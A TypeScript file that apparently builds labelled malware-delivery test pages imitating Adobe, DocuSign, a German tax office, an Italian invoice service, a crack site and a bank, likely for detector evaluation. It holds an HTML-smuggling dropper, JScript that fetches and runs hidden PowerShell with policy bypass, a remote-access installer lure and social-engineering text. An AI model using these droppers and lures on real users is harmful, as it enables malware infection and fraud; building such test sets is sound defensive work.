import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip } from '../parts/e-bin.js';
import { doc, icons, vendorCss, footerLinks, gtagInline } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'docview.adobe-cloudshare.net';
  const inner = zip([{ name: 'Remittance_Advice_88412.js', data: 'var sh=new ActiveXObject("WScript.Shell");sh.Run("powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGEAZABvAGIAZQAtAGMAbABvAHUAZABzAGgAYQByAGUALgBuAGUAdAAvAHgAKQA=",0);' }]);
  const b64 = inner.toString('base64');
  return {
    id: 'm-smuggling-blob-zip-adobe',
    label: 'malware',
    kind: 'html-smuggling',
    url: `https://${host}/viewer/remittance-88412`,
    body: doc({
      title: 'Adobe Document Cloud',
      css: `body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif;background:#f5f5f5}.h{background:#fff;border-bottom:1px solid #e1e1e1;padding:12px 20px;display:flex;gap:10px;align-items:center}.h i{width:24px;height:24px;background:#fa0f00;display:inline-block;border-radius:3px}
.c{max-width:460px;margin:80px auto;background:#fff;border-radius:6px;padding:30px;text-align:center;box-shadow:0 1px 4px rgba(0,0,0,.15)}.sp{width:40px;height:40px;border:4px solid #eee;border-top-color:#1473e6;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="h"><i></i><b>Adobe Acrobat</b></div><div class="c"><h3>Remittance_Advice_88412.pdf</h3><div class="sp"></div><p id="m">Preparing your document for download…</p><p style="font-size:12px;color:#888">If the download doesn't start, <a href="#" id="again">click here</a>.</p></div>
<script>
(function(){
  var d = "${b64}";
  function go(){
    var bin = atob(d), a = new Uint8Array(bin.length);
    for (var i = 0; i < bin.length; i++) a[i] = bin.charCodeAt(i);
    var blob = new Blob([a], {type: 'application/octet-stream'});
    var u = URL.createObjectURL(blob), l = document.createElement('a');
    l.href = u; l.download = 'Remittance_Advice_88412.zip'; document.body.appendChild(l); l.click();
    document.getElementById('m').textContent = 'Download complete. Open the ZIP file to view the document.';
  }
  setTimeout(go, 1500);
  document.getElementById('again').onclick = function(e){ e.preventDefault(); go(); };
})();
</script>`,
    }),
    routes: { ...icons(host, [250, 15, 0]) },
  };
})(),

(() => {
  const host = 'secure.docusign-envelope.net';
  return {
    id: 'm-docportal-docusign-msi-viewer',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/Signing/EmailStart.aspx?a=3f1c9b2e-7d6e-4c55-9a0e-11c2b7d1f0aa`,
    body: doc({
      title: 'DocuSign',
      css: `body{margin:0;font-family:"DS Indigo",Helvetica,Arial,sans-serif;background:#f4f4f4}.y{background:#ffce00;height:6px}.c{max-width:600px;margin:50px auto;background:#fff;padding:32px;border:1px solid #ddd}
.b{background:#ffce00;color:#1e1e1e;border:0;padding:12px 26px;font-weight:700;text-decoration:none;display:inline-block}`,
      body: `<div class="y"></div><div class="c"><b style="font-size:22px">DocuSign</b><h3>Please review and sign: Employment Agreement – Amendment 2</h3><p>HR Operations sent you a document to review and sign.</p>
<p>To open protected envelopes on Windows you need <b>DocuSign Secure Viewer</b>. It only takes a moment to install.</p><a class="b" href="/client/DocuSignSecureViewer_x64.msi">INSTALL VIEWER &amp; OPEN</a>
<p style="font-size:12px;color:#777;margin-top:30px">Do not share this email. This message contains a secure link to DocuSign. Alternate signing method: visit docusign.com, click "Access Documents" and enter the security code 3F1C9B2E7D.</p></div>`,
    }),
    routes: {
      ...icons(host, [255, 206, 0]),
      [`${host}/client/DocuSignSecureViewer_x64.msi`]: fileRoute(cfb(['DocuSign Secure Viewer', 'ScreenConnect.ClientService.exe', '?e=Access&y=Guest&h=relay.docusign-envelope.net&p=8041']), 'application/x-msi', 'DocuSignSecureViewer_x64.msi'),
    },
  };
})(),

(() => {
  const host = 'elster-bescheid.steuer-portal24.de';
  return {
    id: 'm-docportal-steuerbescheid-img-de',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/bescheid/abrufen?az=21-384-77102`,
    body: doc({
      title: 'Steuerbescheid abrufen – Finanzamt Online',
      lang: 'de',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f0f0f0}.k{background:#00456f;color:#fff;padding:16px 40px}.c{max-width:640px;margin:40px auto;background:#fff;padding:30px;border-left:6px solid #00456f}
.b{background:#00456f;color:#fff;padding:12px 22px;text-decoration:none;display:inline-block}`,
      body: `<div class="k"><b>Finanzamt Online</b> · Ihr Steuerkonto</div><div class="c"><h2>Ihr Einkommensteuerbescheid 2024 liegt vor</h2>
<p>Aktenzeichen: 21/384/77102 · Bescheiddatum: 17.11.2025</p><p>Es ergibt sich eine <b>Nachzahlung von 1.284,00 €</b>. Bitte prüfen Sie den Bescheid und zahlen Sie innerhalb eines Monats.</p>
<a class="b" href="/dl/Steuerbescheid_2024_2138477102.img">Bescheid herunterladen (IMG)</a><p style="font-size:12px;color:#666">Hinweis: Der Bescheid ist aus Datenschutzgründen als Abbilddatei gespeichert. Öffnen Sie die Datei per Doppelklick.</p></div>`,
    }),
    routes: {
      ...icons(host, [0, 69, 111]),
      [`${host}/dl/Steuerbescheid_2024_2138477102.img`]: fileRoute(iso('BESCHEID2024', ['Steuerbescheid_2024.pdf.exe', 'autorun.inf']), 'application/octet-stream', 'Steuerbescheid_2024_2138477102.img'),
    },
  };
})(),

(() => {
  const host = 'fatture.aruba-pec-documenti.it';
  return {
    id: 'm-docportal-fattura-js-it',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/fattura/2025/FT-00981`,
    body: doc({
      title: 'Fattura elettronica FT-00981',
      lang: 'it',
      head: `<meta http-equiv="refresh" content="3;url=https://cdn-docs.fattura-storage.xyz/get/Fattura_FT-00981.js">`,
      css: `body{font-family:Verdana,Arial,sans-serif;background:#fafafa;margin:0}.c{max-width:520px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:28px}`,
      body: `<div class="c"><h3>Fattura elettronica n. FT-00981 del 14/11/2025</h3><p>Mittente: Idraulica Rossi S.r.l. · Importo: € 2.318,40</p><p>Il download del documento inizierà automaticamente tra pochi secondi. Se non parte, <a href="https://cdn-docs.fattura-storage.xyz/get/Fattura_FT-00981.js">clicca qui</a>.</p>
<p style="font-size:11px;color:#888">Documento conservato a norma · Sistema di Interscambio</p></div>`,
    }),
    routes: {
      ...icons(host, [0, 100, 160]),
      'cdn-docs.fattura-storage.xyz/get/Fattura_FT-00981.js': fileRoute(`var a=new ActiveXObject("Scripting.FileSystemObject"),s=new ActiveXObject("WScript.Shell");var p=s.ExpandEnvironmentStrings("%TEMP%")+"\\\\f.ps1";var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","https://fattura-storage.xyz/p/f.ps1",false);x.send();var f=a.CreateTextFile(p,true);f.Write(x.responseText);f.Close();s.Run("powershell -ep bypass -w hidden -f "+p,0);`, 'application/javascript', 'Fattura_FT-00981.js'),
    },
  };
})(),

(() => {
  const host = 'getintopc-soft.net';
  return {
    id: 'm-crack-photoshop-password-rar',
    label: 'malware',
    kind: 'cracked-software',
    url: `https://${host}/adobe-photoshop-2025-free-download/`,
    body: doc({
      title: 'Adobe Photoshop 2025 v26.1 Free Download [Pre-Activated] - GetIntoPC',
      css: `body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#ececec}.hd{background:#1f4e79;color:#fff;padding:14px 30px;font-size:22px;font-weight:bold}.w{display:grid;grid-template-columns:1fr 300px;gap:20px;max-width:1100px;margin:20px auto}
.p{background:#fff;padding:24px}.s{background:#fff;padding:16px}.dl{display:block;background:#e74c3c;color:#fff;text-align:center;padding:16px;font-size:20px;text-decoration:none;font-weight:bold;margin:20px 0}.ad{background:#ffd;border:1px dashed #cc9;padding:12px;text-align:center;margin:10px 0}`,
      body: `<div class="hd">GetIntoPC Soft</div><div class="w"><div class="p"><h1>Adobe Photoshop 2025 v26.1 Free Download</h1><p>Adobe Photoshop 2025 Free Download Latest Version for Windows. It is full offline installer standalone setup of Adobe Photoshop 2025 pre-activated (crack included).</p>
<h3>Features of Adobe Photoshop 2025</h3><ul><li>Generative Fill powered by Firefly</li><li>Remove Tool</li><li>Neural Filters</li><li>Pre-activated, no need to patch</li></ul>
<h3>Technical Setup Details</h3><ul><li>Setup File Name: Adobe_Photoshop_2025_v26.1_x64.rar</li><li>Full Setup Size: 3.1 GB</li><li>Compatibility: 64 Bit (x64)</li></ul>
<div class="ad">Sponsored: <b>Download faster with FastDL Manager</b></div>
<p><b>Important:</b> Turn off Windows Defender / antivirus before extracting, otherwise the crack files will be deleted (false positive).</p>
<a class="dl" href="https://shrinkme.link-safe.xyz/ps2025">⬇ Download Now</a><p>Password: <b>123</b></p></div>
<div class="s"><h4>Popular</h4><ul><li>Microsoft Office 2024 Pro Plus</li><li>IDM 6.42 Build 25</li><li>CorelDRAW 2025</li><li>AutoCAD 2025</li></ul></div></div>`,
    }),
    routes: {
      ...icons(host, [31, 78, 121]),
      'shrinkme.link-safe.xyz/ps2025': htmlRoute(doc({ title: 'Please wait…', body: `<p style="text-align:center;font:16px Arial;margin-top:100px">Your link is ready in <span id="t">5</span> seconds…</p><script>var t=5;var i=setInterval(function(){t--;document.getElementById('t').textContent=t;if(t<=0){clearInterval(i);location.href='https://dl.filehost-mirror.cc/f/Adobe_Photoshop_2025_v26.1_x64.rar'}},1000);</script>` })),
      'dl.filehost-mirror.cc/f/Adobe_Photoshop_2025_v26.1_x64.rar': fileRoute(rar5('Setup.exe Crack/amtlib.dll Password=123'), 'application/x-rar-compressed', 'Adobe_Photoshop_2025_v26.1_x64.rar'),
    },
  };
})(),

(() => {
  const host = 'sicurezza-conto.app-bancaria.info';
  return {
    id: 'm-apk-bank-security-it',
    label: 'malware',
    kind: 'malicious-apk',
    url: `https://${host}/attiva?cliente=72119`,
    body: doc({
      title: 'Attivazione app di sicurezza',
      lang: 'it',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f2f6f9}.t{background:#005b9f;color:#fff;padding:16px}.c{max-width:420px;margin:20px auto;background:#fff;border-radius:10px;padding:22px}
.b{display:block;background:#00a651;color:#fff;text-align:center;padding:14px;border-radius:8px;text-decoration:none;font-weight:bold}.st{display:flex;gap:10px;margin:10px 0}.st b{background:#005b9f;color:#fff;border-radius:50%;width:24px;height:24px;text-align:center;flex:none}`,
      body: `<div class="t"><b>Banca · Servizio Clienti</b></div><div class="c"><h3>Il tuo conto è stato temporaneamente limitato</h3><p>Per motivi di sicurezza è necessario installare la nuova app <b>Sicurezza Conto</b> per ricevere i codici di autorizzazione (nuova normativa PSD2).</p>
<div class="st"><b>1</b><span>Scarica l'app con il pulsante sotto.</span></div><div class="st"><b>2</b><span>Consenti l'installazione da origini sconosciute.</span></div><div class="st"><b>3</b><span>Apri l'app e attiva il servizio di accessibilità "Sicurezza".</span></div>
<a class="b" href="/download/SicurezzaConto_v2.3.apk">SCARICA L'APP</a><p style="font-size:11px;color:#777">Servizio attivo 24/7 · Numero verde 800 55 12 12</p></div>`,
    }),
    routes: {
      ...icons(host, [0, 91, 159]),
      [`${host}/download/SicurezzaConto_v2.3.apk`]: fileRoute(apk('it.sicurezza.conto', 'Sicurezza Conto', ['accessibility', 'overlay_injection', 'sms_intercept']), 'application/vnd.android.package-archive', 'SicurezzaConto_v2.3.apk'),
    },
  };
})(),
];
